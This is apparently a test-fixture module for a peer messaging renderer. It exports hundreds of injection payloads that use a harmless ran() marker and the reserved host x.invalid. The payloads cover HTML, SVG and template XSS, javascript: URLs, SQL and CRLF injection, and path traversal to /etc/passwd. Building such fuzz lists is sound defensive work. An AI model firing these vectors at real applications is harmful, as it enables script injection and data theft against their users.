// What a peer may write to become more than text. Whatever of it runs calls `ran()`, opens a dialog, or asks for something at
// `x.invalid`, a name that nobody has (RFC 6761).

/** Elements that run something when they are parsed, or soon after. */
const elements = [
  "<script>ran()</script>", "<script src=//x.invalid/1></script>", "<script type=module>ran()</script>", "<SCRIPT>ran()</SCRIPT>",
  "<script\n>ran()</script\n>", "<script/x>ran()</script>", "<scr<script>ipt>ran()</script>", "</script><script>ran()</script>",
  "<img src onerror=ran()>", "<img src=x onerror=ran()>", "<img/src/onerror=ran()>", "<IMG SRC=x ONERROR=ran()>",
  "<img src=x onerror='ran()'>", '<img src=x onerror="ran()">', "<img src=x onerror=ran``>", "<img src=x\tonerror=ran()>",
  "<img src=x\nonerror=ran()>", "<img src=x onerror=&#114;an()>", "<img src=x onerror=top.ran()>", "<img src=x onerror=alert(1)>",
  "<img src=//x.invalid/2>", "<img srcset=//x.invalid/3>", "<img src=x onerror=ran() a=", "<image src=x onerror=ran()>",
  "<body onload=ran()>", "<body background=//x.invalid/4>", "<html onclick=ran()>", "<input autofocus onfocus=ran()>",
  "<textarea autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>", "<button autofocus onfocus=ran()>", "<a id=x tabindex=1 autofocus onfocus=ran()>",
  "<details open ontoggle=ran()>", "<dialog open onclose=ran()>", "<video src onerror=ran()>", "<audio src onerror=ran()>",
  "<video><source onerror=ran()>", "<video poster=//x.invalid/5>", "<object data=x onerror=ran()>", "<embed src=x onerror=ran()>",
  "<iframe onload=ran()>", "<iframe src=javascript:top.ran()>", "<iframe srcdoc='<script>top.ran()</script>'>", "<iframe src=//x.invalid/6>",
  "<frameset onload=ran()>", "<object data=javascript:ran()>", "<object data=//x.invalid/7>", "<embed src=//x.invalid/8>",
  "<marquee onstart=ran()>", "<link rel=stylesheet href=//x.invalid/9 onerror=ran()>", "<link rel=prefetch href=//x.invalid/10>", "<base href=//x.invalid/>",
  "<meta http-equiv=refresh content='0;url=//x.invalid/11'>", "<form action=//x.invalid/12><input type=submit autofocus>", "<p onpointerover=ran() style=position:fixed;inset:0>x", "<table background=//x.invalid/13>",
  "<template><img src=x onerror=ran()></template>", "<noscript><img src=x onerror=ran()></noscript>", "<xmp><img src=x onerror=ran()></xmp>", "<plaintext>",
  "<title><img src=x onerror=ran()></title>", "<textarea><img src=x onerror=ran()></textarea>", "<style onload=ran()></style>", "<p is=x-ran onfocus=ran() autofocus tabindex=0>",
  "<slot onslotchange=ran()>", "<p popover id=p onbeforetoggle=ran()>", "<div contenteditable autofocus onfocus=ran()>", "<a href=//x.invalid/14 ping=//x.invalid/15>here</a>",
];

/** The same in SVG and MathML, which are parsed by other rules. */
const foreign = [
  "<svg onload=ran()>", "<svg/onload=ran()>", "<svg><script>ran()</script></svg>", "<svg><script href=//x.invalid/16></script></svg>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><set onbegin=ran() attributeName=x>", "<svg><a href=javascript:ran()><text y=9>x</text></a>", "<svg><use href=//x.invalid/17#x>",
  "<svg><image href=//x.invalid/18>", "<svg><foreignObject><img src=x onerror=ran()>", "<svg><style><img src=x onerror=ran()></style>", "<svg><desc><img src=x onerror=ran()></desc>",
  "<svg><title><img src=x onerror=ran()></title>", "<svg><p><style><g title='</style><img src=x onerror=ran()>'>", "<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>", "<?xml-stylesheet href='//x.invalid/19'?><svg/>",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran()>", "<math href=javascript:ran()>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=ran()>", "<svg><![CDATA[><img src=x onerror=ran()>]]></svg>",
];

/** Ends of an attribute, a tag, a comment or a string that it might stand in. */
const ends = [
  "\"><img src=x onerror=ran()>", "'><img src=x onerror=ran()>", "><img src=x onerror=ran()>", "`><img src=x onerror=ran()>",
  "\" onfocus=ran() autofocus=\"", "' onfocus=ran() autofocus='", " onfocus=ran() autofocus tabindex=0 ", "\"onpointerenter=\"ran()", "x\" style=\"animation:a\" onanimationstart=\"ran()",
  "--><img src=x onerror=ran()>", "--!><img src=x onerror=ran()>", "]]><img src=x onerror=ran()>", "?><img src=x onerror=ran()>", "</title><img src=x onerror=ran()>", "</style><img src=x onerror=ran()>",
  "</textarea><img src=x onerror=ran()>", "</noscript><img src=x onerror=ran()>", "</bdi></p></div><img src=x onerror=ran()>", "<!--><img src=x onerror=ran()>", "<!-- <img src=x onerror=ran()> -->",
  "\";ran();//", "';ran();//", "`;ran();//", "\\\";ran();//", "\\';ran();//", "${ran()}", "\");ran();//", "*/ran()/*", "\n-->ran()", "<!--\nran()//", "}ran();{", "\u2028ran()//", "\u2029ran()//", "\\u0022;ran();//",
];

/** Addresses that run something, or lead away. */
const addresses = [
  "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "java\nscript:ran()", "\u0001javascript:ran()", " javascript:ran()", "javascript://%0aran()", "javascript&colon;ran()", "javascript&#58;ran()",
  "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=ran()>", "vbscript:ran()", "blob:null/ran()", "filesystem:ran()", "view-source:javascript:ran()",
  "//x.invalid/20", "https://x.invalid/21", "https:x.invalid", "\\\\x.invalid\\22", "/\\x.invalid/23", "http://127.0.0.1:7778/api/invite", "/api/restart", "../../api/invite", "#<img src=x onerror=ran()>",
  "?<script>ran()</script>", "file:///etc/passwd", "mailto:x@x.invalid", "ftp://x.invalid/", "[here](javascript:ran())", "![x](//x.invalid/24)", "<a href=javascript:ran()>here</a>", "<a href=' &#1; javascript:ran()'>here</a>",
];

/** What templates, formats and interpreters would take for theirs. */
const templates = [
  "{{ran()}}", "{{constructor.constructor('ran()')()}}", "{%ran()%}", "<%=ran()%>", "#{ran()}", "${{ran()}}", "@{ran()}", "[[ran()]]", "{ran()}", "$(ran())", "`ran()`", "|ran()", "; ran()", "&& ran()",
  "%s%n%x", "%00", "\\x00", "\\u0000", "__proto__", "constructor", "toString", "hasOwnProperty", "[object Object]", "undefined", "null", "NaN", "-1", "' OR 1=1 --", "{\"v\":1,\"do\":\"stop\"}", "data: {}\n\nevent: stopped\ndata: {}\n\n",
  "{\"__proto__\":{\"ran\":1}}", "all", "all:home", "\r\nSet-Cookie: ran=1", "\r\n\r\n<script>ran()</script>", "../../../etc/passwd", "..\\..\\x", "CON", "x.desktop", "-rf", "~root", "$HOME", "*", "a/../../b",
];

/** Styles that would load, cover or move something. */
const styles = [
  "<style>*{background:url(//x.invalid/25)}</style>", "<style>@import '//x.invalid/26';</style>", "<style>body{display:none}</style>", "<p style=position:fixed;inset:0;background:red>x", "<p style=background:url(//x.invalid/27)>x",
  "<style>@font-face{font-family:x;src:url(//x.invalid/28)}*{font-family:x}</style>", "*{background:url(//x.invalid/29)}", "x;background:url(//x.invalid/30)", "expression(ran())", "</style><svg onload=ran()>",
];

/** Characters that act on others, or are not seen. */
const unseen = [
  "\u202Etxt.exe\u202C", "\u2066\u202Egpj.exe\u2069", "\u200F\u200E\u061C", "a\u202B<img src=x onerror=ran()>", "\u0000<img src=x onerror=ran()>", "<im\u0000g src=x onerror=ran()>", "<\u200Bscript>ran()</script>", "\uFEFF<script>ran()</script>",
  "\u001B]0;ran\u0007", "\u001B[2J\u001B[H", "\u009B31m", "\b\b\b\b", "\u007F", "\u0085", "\u00AD\u034F", "\u{E0001}\u{E0041}", "\uFFFE\uFFFF", "\uFFF9a\uFFFBb\uFFFC", "e" + "\u0301".repeat(60), "\u0489".repeat(60), "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}",
  "‹script›ran()‹/script›", "\uFF1Cscript\uFF1Eran()\uFF1C/script\uFF1E", "\u00BCscript\u00BEran()\u00BC/script\u00BE", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "\u{1D49}\u3164\u115F\u1160", "\u2800\u00A0\u3000",
];

/** The same markup in the codes of something that would decode it once more. */
const encoded = [
  "&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;", "&#x3C;img src=x onerror=ran()&#x3E;", "&#0000060script>ran()", "&ltscript&gtran()", "%3Cscript%3Eran()%3C/script%3E", "%253Cscript%253Eran()", "\\u003cscript\\u003eran()",
  "\\x3cscript\\x3eran()", "\\74script\\76ran()", "PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "=3Cscript=3Eran()", "&amp;lt;img src=x onerror=ran()&amp;gt;", "&colon;&lpar;&rpar;&NewLine;&Tab;", "&#0;&#x110000;&bogus;",
];

/** More of it than anybody expects: the depth of a tree, a line, lines, and what is matched or laid out slowly. */
const long = [
  "<b>".repeat(3000), "<svg><g>".repeat(1500), "A".repeat(16_000), "\n".repeat(4000), "<img src=x onerror=ran()>".repeat(500), "\u202E".repeat(4000), "ﷺ".repeat(4000), "\u{1F3F4}\u{E0067}".repeat(1500), "( ".repeat(6000), "&".repeat(12_000),
];

export const payloads = [...elements, ...foreign, ...ends, ...addresses, ...templates, ...styles, ...unseen, ...encoded, ...long];
